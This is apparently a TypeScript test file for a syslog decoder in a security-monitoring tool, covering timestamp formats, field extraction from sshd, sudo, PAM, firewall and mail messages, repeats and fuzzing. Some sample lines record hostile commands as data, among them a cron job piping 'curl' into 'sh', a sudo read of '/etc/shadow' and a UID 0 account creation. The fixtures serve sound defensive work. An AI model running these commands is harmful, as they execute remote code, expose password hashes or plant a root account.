// Syslog lines in the forms they come in, what their messages mean, and what a line may be.
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import type { RuntimeEvent } from "../event.ts";
import { syslog } from "./syslog.ts";

const receivedAt = Date.UTC(2026, 0, 5, 12);

function decode(lines: readonly string[], settings: Record<string, string> = {}) {
  const session = syslog.open({ receivedAt, host: undefined, settings });
  const pushed = lines.map((line, place) => session.push(line, `line ${place + 1}`));
  const all = [...pushed, session.end()];
  return { events: all.flatMap(({ events }) => events), rejects: all.flatMap(({ rejects }) => rejects) };
}

const one = (line: string, settings: Record<string, string> = {}): RuntimeEvent => { const { events, rejects } = decode([line], settings); expect([events.length, rejects]).toEqual([1, []]); return events[0] as RuntimeEvent; };

describe("runtime/decoders/syslog: heads", () => {
  const at = Date.UTC(2026, 0, 4, 8, 9, 10);

  it.each<[string, string, number]>([
    ["RFC 3164", "<38>Jan  4 08:09:10 web-1 sshd[12]: hello", at],
    ["without a priority", "Jan  4 08:09:10 web-1 sshd[12]: hello", at],
    ["last year's, by the time of receipt", "Dec 31 08:09:10 web-1 sshd[12]: hello", Date.UTC(2025, 11, 31, 8, 9, 10)],
    ["with a year", "Jan  4 2024 08:09:10 web-1 sshd[12]: hello", Date.UTC(2024, 0, 4, 8, 9, 10)],
    ["RFC 5424", '<38>1 2026-01-04T10:09:10.123+02:00 web-1 sshd 12 ID47 [a@1 x="y\\"z"][b@2] \ufeffhello', at + 123],
    ["octet counting", "57 <38>1 2026-01-04T08:09:10Z web-1 sshd 12 - - hello", at],
    ["rsyslog's file format", "2026-01-04T08:09:10.000000+00:00 web-1 sshd[12]: hello", at],
    ["journalctl -o short-full", "Sun 2026-01-04 08:09:10 UTC web-1 sshd[12]: hello", at],
    ["journalctl -o json", JSON.stringify({ __REALTIME_TIMESTAMP: String(at * 1000), _HOSTNAME: "web-1", SYSLOG_IDENTIFIER: "sshd", _PID: "12", MESSAGE: "hello" }), at],
    ["a journal's message of bytes", JSON.stringify({ __REALTIME_TIMESTAMP: String(at * 1000), _HOSTNAME: "web-1", SYSLOG_IDENTIFIER: "sshd", _PID: "12", MESSAGE: [...Buffer.from("hello")] }), at],
  ])("%s", (_case, line, when) => {
    expect(syslog.recognises(line)).toBe(true);
    const event = one(line);
    expect([event.at, event.isTimed, event.origin, event.logsource, event.fields["message"], event.fields["pid"]]).toEqual([when, true, { host: "web-1" }, { product: "linux", service: "sshd" }, "hello", "12"]);
  });

  it("facility, severity and structured data are kept", () => {
    expect(one('<38>1 2026-01-04T10:09:10.123+02:00 web-1 sshd 12 ID47 [a@1 x="y\\"z"][b@2] hello').fields).toMatchObject({ facility: "auth", severity: "informational", msgid: "ID47", data: { "a@1": { x: 'y"z' }, "b@2": {} } });
  });

  it("times without an offset are the zone's", () => {
    expect(one("Jan  4 08:09:10 web-1 sshd[12]: hello", { zone: "Europe/Paris" }).at).toBe(Date.UTC(2026, 0, 4, 7, 9, 10));
  });

  it("a line without a head is a message without a time", () => {
    expect(one("Bad password attempt for 'bob' from 203.0.113.9:49242")).toMatchObject({ isTimed: false, at: receivedAt, fields: { SourceIp: "203.0.113.9", User: "bob", outcome: "failure" } });
    expect(syslog.recognises("hello world")).toBe(false);
  });
});

describe("runtime/decoders/syslog: what messages mean", () => {
  it.each<[string, string, string | undefined, Record<string, unknown>]>([
    ["a wrong password", "sshd[1]: Failed password for root from 203.0.113.9 port 4711 ssh2", "authentication", { User: "root", SourceIp: "203.0.113.9", SourcePort: "4711", outcome: "failure", method: "password" }],
    ["a user nobody knows", "sshd-session[1]: Invalid user admin from 203.0.113.9 port 4711", "authentication", { User: "admin", SourceIp: "203.0.113.9", outcome: "failure" }],
    ["a name with words of the log", "sshd[1]: Failed password for invalid user root from 10.0.0.1 from 203.0.113.9 port 4711 ssh2", "authentication", { SourceIp: "203.0.113.9", outcome: "failure" }],
    ["a login", "sshd[1]: Accepted publickey for bob from 2001:db8::7 port 4711 ssh2: ED25519 SHA256:x", "authentication", { User: "bob", SourceIp: "2001:db8::7", outcome: "success", method: "publickey" }],
    ["a scanner", "sshd[1]: banner exchange: Connection from 203.0.113.9 port 4711: invalid format", undefined, { SourceIp: "203.0.113.9", outcome: undefined }],
    ["the end of a session is no login", "sshd[1]: Disconnected from user bob 203.0.113.9 port 4711", undefined, { User: "bob", SourceIp: "203.0.113.9", outcome: undefined }],
    ["sudo", "sudo:      bob : TTY=pts/0 ; PWD=/home/bob ; USER=root ; COMMAND=/usr/bin/cat /etc/shadow ; id", undefined, { User: "bob", TargetUser: "root", CurrentDirectory: "/home/bob", CommandLine: "/usr/bin/cat /etc/shadow ; id", outcome: "success" }],
    ["sudo refused", "sudo:  bob : user NOT in sudoers ; TTY=pts/0 ; PWD=/home/bob ; USER=root ; COMMAND=/bin/sh", "authentication", { User: "bob", CommandLine: "/bin/sh", outcome: "failure", reason: "user NOT in sudoers" }],
    ["pkexec", "pkexec[1]: bob: The value for the SHELL variable was not found the /etc/shells file [USER=root] [TTY=/dev/pts/3] [CWD=/tmp] [COMMAND=GCONV_PATH=. x]", undefined, { User: "bob", TargetUser: "root", CommandLine: "GCONV_PATH=. x" }],
    ["su refused", "su[1]: FAILED SU (to root) bob on pts/1", "authentication", { User: "bob", TargetUser: "root", outcome: "failure" }],
    ["a console login refused", "login[1]: FAILED LOGIN (1) on '/dev/tty1' FOR 'root', Authentication failure", "authentication", { User: "root", outcome: "failure" }],
    ["PAM of any service", "proftpd[1]: pam_unix(proftpd:auth): authentication failure; logname= uid=0 euid=0 tty=/dev/ftpd ruser=bob rhost=203.0.113.9  user=bob", "authentication", { User: "bob", SourceIp: "203.0.113.9", outcome: "failure" }],
    ["cron", "CRON[1]: (root) CMD (curl http://a/ | sh)", undefined, { User: "root", CommandLine: "curl http://a/ | sh" }],
    ["an account made", "useradd[1]: new user: name=eve, UID=0, GID=0, home=/root, shell=/bin/sh", undefined, { TargetUser: "eve", TargetUid: "0" }],
    ["mail", "postfix/smtpd[1]: warning: unknown[203.0.113.9]: SASL LOGIN authentication failed: x, sasl_username=bob@a", "authentication", { SourceIp: "203.0.113.9", User: "bob@a", outcome: "failure" }],
    ["dovecot", "dovecot: imap-login: Disconnected (auth failed, 1 attempts in 6 secs): user=<bob>, method=PLAIN, rip=203.0.113.9, lip=10.0.0.1", "authentication", { User: "bob", SourceIp: "203.0.113.9", outcome: "failure" }],
    ["a firewall", "kernel: [1.5] [UFW BLOCK] IN=eth0 OUT= MAC=aa SRC=203.0.113.9 DST=10.0.0.1 LEN=40 PROTO=TCP SPT=4711 DPT=22 WINDOW=1", "firewall", { SourceIp: "203.0.113.9", DestinationIp: "10.0.0.1", DestinationPort: "22", rule: "[UFW BLOCK]" }],
    ["a program nobody listed", "myapp[1]: Login failed for user eve from 203.0.113.9: bad password", "authentication", { User: "eve", SourceIp: "203.0.113.9", outcome: "failure" }],
    ["nothing of that", "myapp[1]: started", undefined, { outcome: undefined, SourceIp: undefined }],
  ])("%s", (_case, said, category, fields) => {
    const event = one(`Jan  4 08:09:10 web-1 ${said}`);
    expect([event.logsource.category, Object.fromEntries(Object.keys(fields).map((name) => [name, event.fields[name]]))]).toEqual([category, fields]);
  });

  it("services have Sigma's names, and the authentication log is asked too", () => {
    expect(one("Jan  4 08:09:10 web-1 CRON[1]: x").logsource.service).toBe("cron");
    expect(one("Jan  4 08:09:10 web-1 sudo: x").alsoAsked).toEqual([{ product: "linux", service: "auth" }, { product: "linux", service: "syslog" }]);
  });

  it("JSON in a message is fields", () => {
    expect(one('Jan  4 08:09:10 web-1 myapp[1]: {"user":{"name":"eve"}}').fields["user"]).toEqual({ name: "eve" });
  });

  it("audit records and access logs inside are what they are", () => {
    const [audit] = decode(['Jan  4 08:09:10 web-1 audispd: type=SYSCALL msg=audit(1700000000.123:1): arch=c000003e syscall=59 success=yes exe="/bin/x"', 'Jan  4 08:09:10 web-1 audispd: type=EXECVE msg=audit(1700000000.123:1): argc=1 a0="x"']).events;
    expect(audit).toMatchObject({ logsource: { category: "process_creation" }, origin: { host: "web-1" }, fields: { CommandLine: "x" } });
    expect(one('Jan  4 08:09:10 web-1 nginx: 203.0.113.9 - - [04/Jan/2026:08:09:10 +0000] "GET /a HTTP/1.1" 200 1 "-" "x"')).toMatchObject({ logsource: { category: "webserver" }, origin: { host: "web-1" }, fields: { "c-ip": "203.0.113.9" } });
  });
});

describe("runtime/decoders/syslog: repeats", () => {
  const failed = "Jan  4 08:09:10 web-1 sshd[1]: Failed password for root from 203.0.113.9 port 4711 ssh2";

  it("rsyslog's message repeated is that many events", () => {
    expect(decode(["Jan  4 08:09:12 web-1 sshd[1]: message repeated 5 times: [ Failed password for root from 203.0.113.9 port 4711 ssh2]"]).events.map(({ fields }) => fields["outcome"])).toEqual(Array.from({ length: 5 }, () => "failure"));
  });

  it("last message repeated is the host's last one", () => {
    expect(decode([failed, "Jan  4 08:09:12 web-1 last message repeated 2 times"]).events.map(({ fields }) => fields["SourceIp"])).toEqual(["203.0.113.9", "203.0.113.9", "203.0.113.9"]);
  });

  it("a number without bounds has one", () => {
    expect(decode(["Jan  4 08:09:12 web-1 sshd[1]: message repeated 999999999 times: [ x]"]).events).toHaveLength(1000);
  });
});

describe("runtime/decoders/syslog: what a line may be", () => {
  it("its canary is read by itself", () => {
    expect(JSON.stringify(one(syslog.canary("aftwatch-canary-0123", receivedAt)).fields)).toContain("aftwatch-canary-0123");
  });

  it("no line throws, and every line that is not blank is an event", () => {
    const parts = fc.constantFrom("<38>", "<999>1 ", "1 ", "Jan  4 08:09:10 ", "2026-01-04T08:09:10Z ", "web-1 ", "sshd[1]: ", "Failed password for ", " from ", "[a@1 x=\"", "]", "{", "\0", "message repeated 3 times: [", "IN= OUT= SRC=", "user=<", "authentication failure;", "203.0.113.9", ":::1");
    const line = fc.array(fc.oneof(parts, fc.string({ unit: "binary", maxLength: 6 })), { maxLength: 14 }).map((words) => words.join(""));
    fc.assert(fc.property(line, (text) => {
      syslog.recognises(text);
      const { events, rejects } = decode([text]);
      expect(rejects).toEqual([]);
      if (events.length === 0) expect(/^(?:\s*|-- .*)$/s.test(text.replace(/\r?\n?$/, "").replaceAll("\0", "x"))).toBe(true);
    }), { numRuns: 2000 });
  });

  it.each(["IN= OUT= SRC=", "authentication failure; rhost= user=", "user=<a> method= rip=", "Login failed for user ", "a : TTY=", "from 1.1.1.", "::", "pam(a,", "[a] ", "Failed password for a from ", "auth failed denied 1:"])("a message of %s again and again takes no time", (words) => {
    const line = `Jan  4 08:09:10 web-1 sshd[1]: ${words.repeat(Math.ceil(1_000_000 / words.length))}`;
    const sudo = line.replace("sshd", "sudo");
    const before = performance.now();
    decode([line, sudo]);
    expect(performance.now() - before).toBeLessThan(2000);
  });
});
